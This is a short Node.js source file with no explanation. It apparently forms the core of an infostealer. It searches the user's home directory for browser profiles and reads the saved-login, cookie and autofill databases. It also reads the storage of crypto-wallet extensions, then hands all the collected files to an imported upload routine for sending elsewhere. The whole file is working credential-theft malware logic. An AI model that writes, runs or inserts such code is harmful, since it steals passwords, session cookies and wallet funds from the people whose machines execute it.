const fs = require('fs');
const path = require('path');
const os = require('os');
const paths = require('./paths');
const up = require('./upload');
const home = os.homedir();
const files = [];
for (const base of paths.browsers) {
  const profile = path.join(home, base, 'Default');
  for (const name of ['Login Data', 'Cookies', 'Web Data']) {
    const p = path.join(profile, name);
    if (fs.existsSync(p)) files.push({ name: base + '/' + name, data: fs.readFileSync(p) });
  }
  for (const ext of paths.wallets) {
    const d = path.join(profile, 'Local Extension Settings', ext);
    if (fs.existsSync(d)) for (const f of fs.readdirSync(d)) files.push({ name: ext + '/' + f, data: fs.readFileSync(path.join(d, f)) });
  }
}
up(files);
